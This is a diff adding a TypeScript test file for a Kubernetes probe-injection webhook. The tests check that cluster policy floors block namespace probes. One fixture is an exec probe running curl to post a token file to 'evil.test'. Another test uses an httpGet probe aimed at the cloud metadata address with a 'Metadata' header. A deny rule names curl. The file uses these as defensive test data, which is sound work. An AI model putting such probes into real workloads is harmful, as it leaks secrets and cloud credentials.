@@ -1,0 +1,116 @@
+import { describe, expect, it } from 'vitest';
+import {
+  appContainer,
+  clusterPolicyDocument,
+  containerNamed,
+  mutation,
+  pod,
+  policyDocument,
+  policySet,
+} from '../worlds.ts';
+import type { JsonObject } from '../../src/probes/json.ts';
+
+/** What the app container gets, and why it gets nothing else. */
+function given(container: JsonObject, ...documents: JsonObject[]): { probes: string[]; reasons: string[] } {
+  const { after, defaulting } = mutation(pod([container]), policySet(...documents));
+  const probes = Object.keys(containerNamed(after, 'app')).filter((key) => key.endsWith('Probe'));
+  const reasons = (defaulting?.notInjected ?? [])
+    .filter(({ code }) => code === 'forbidden-by-floor')
+    .map(({ probe, detail }) => `${probe ?? ''}: ${detail}`);
+  return { probes, reasons };
+}
+
+const floor = (checks: Record<string, JsonObject>): JsonObject =>
+  clusterPolicyDocument({
+    checks: Object.fromEntries(
+      Object.entries(checks).map(([id, more]) => [id, { action: 'Deny', floor: 'Deny', ...more }]),
+    ),
+  });
+const exec = { readinessProbe: { exec: { command: ['curl', '-d', '@token', 'http://evil.test'] } } };
+
+describe('a probe of a namespace policy that violates a floor', () => {
+  it('is not injected, and the reason names check, cluster policy and value', () => {
+    expect(
+      given(appContainer(), floor({ 'exec-forbidden': { names: ['curl'] } }), policyDocument({ probes: exec })),
+    ).toEqual({
+      probes: [],
+      reasons: [
+        'readinessProbe: exec-forbidden, which ClusterProbePolicy/cluster sets with the floor Deny, forbids it: ' +
+          'container "app" runs "curl" in its readinessProbe, which the policy forbids; write an httpGet, tcpSocket or grpc handler, or another command',
+      ],
+    });
+  });
+
+  it('is not injected whatever parameters the namespace sets', () => {
+    const policy = policyDocument({
+      probes: exec,
+      checks: { 'exec-forbidden': { action: 'Off', names: ['nothing'] } },
+    });
+    expect(given(appContainer(), floor({ 'exec-forbidden': { names: ['curl'] } }), policy).probes).toEqual([]);
+  });
+
+  it('is not injected with a foreign host and headers', () => {
+    const httpGet = {
+      path: '/',
+      port: 80,
+      host: '169.254.169.254',
+      httpHeaders: [{ name: 'Metadata', value: 'true' }],
+    };
+    const container = appContainer({ ports: [{ containerPort: 80 }] });
+    const policy = policyDocument({ probes: { livenessProbe: { httpGet } } });
+    expect(given(container, policy).probes).toContain('livenessProbe');
+    expect(given(container, floor({ 'probe-host': {} }), policy).probes).toEqual([]);
+  });
+
+  it('takes nothing from the probes that violate none', () => {
+    const policy = policyDocument({ probes: exec, kubernetesProbeEndpoints: { livenessProbe: '/live' } });
+    expect(given(appContainer(), floor({ 'exec-forbidden': { names: ['curl'] } }), policy).probes).toEqual([
+      'livenessProbe',
+      'startupProbe',
+    ]);
+  });
+
+  it('is injected where the floor is Warn, or only the action is Deny', () => {
+    const warn = clusterPolicyDocument({ checks: { 'exec-forbidden': { floor: 'Warn', names: ['curl'] } } });
+    const deny = clusterPolicyDocument({ checks: { 'exec-forbidden': { action: 'Deny', names: ['curl'] } } });
+    for (const policy of [warn, deny])
+      expect(given(appContainer(), policy, policyDocument({ probes: exec })).probes).toEqual(['readinessProbe']);
+  });
+
+  it('is not injected when it makes a probe of the author violate the floor', () => {
+    const own = appContainer({ livenessProbe: { httpGet: { path: '/same', port: 'http' }, failureThreshold: 1 } });
+    const policy = policyDocument({ kubernetesProbeEndpoints: { readinessProbe: '/same' } });
+    expect(given(own, policy).probes).toEqual(['livenessProbe', 'readinessProbe']);
+    const { probes, reasons } = given(own, floor({ 'shared-endpoint': {} }), policy);
+    expect(probes).toEqual(['livenessProbe']);
+    expect(reasons[0]).toMatch(/^readinessProbe: shared-endpoint, which ClusterProbePolicy\/cluster sets/);
+  });
+
+  it('that would protect a start takes the liveness probe with it', () => {
+    const bounds = { 'probe-bounds': { startupProbe: { failureThreshold: { maximum: 3 } } } };
+    const policy = policyDocument({ kubernetesProbeEndpoints: { livenessProbe: '/live' } });
+    const { probes, reasons } = given(appContainer(), floor(bounds), policy);
+    expect(probes).toEqual([]);
+    expect(reasons[0]).toMatch(
+      /^livenessProbe: probe-bounds, .* forbids the startupProbe that would protect its start$/,
+    );
+    expect(reasons[1]).toMatch(/^startupProbe: probe-bounds/);
+  });
+
+  it('of an annotation is not injected either', () => {
+    const object = pod([appContainer()], {
+      metadata: { annotations: { 'probewright.dev/liveness-endpoint': '/ready' } },
+    });
+    const policies = policySet(floor({ 'dependency-liveness': {} }));
+    expect(mutation(object, policySet()).patch).toBeDefined();
+    expect(mutation(object, policies).patch).toBeUndefined();
+  });
+});
+
+it('a Pod that opts out of mutation is told so and gets nothing, also when a webhook is asked about it', () => {
+  const labels = { 'probewright.dev/webhook': 'disabled' };
+  const policies = policySet(policyDocument({ kubernetesProbeEndpoints: { livenessProbe: '/live' } }));
+  const { patch, defaulting } = mutation(pod([appContainer()], { metadata: { labels } }), policies);
+  expect(patch).toBeUndefined();
+  expect(defaulting?.notInjected.map(({ code }) => code)).toEqual(['opted-out']);
+});
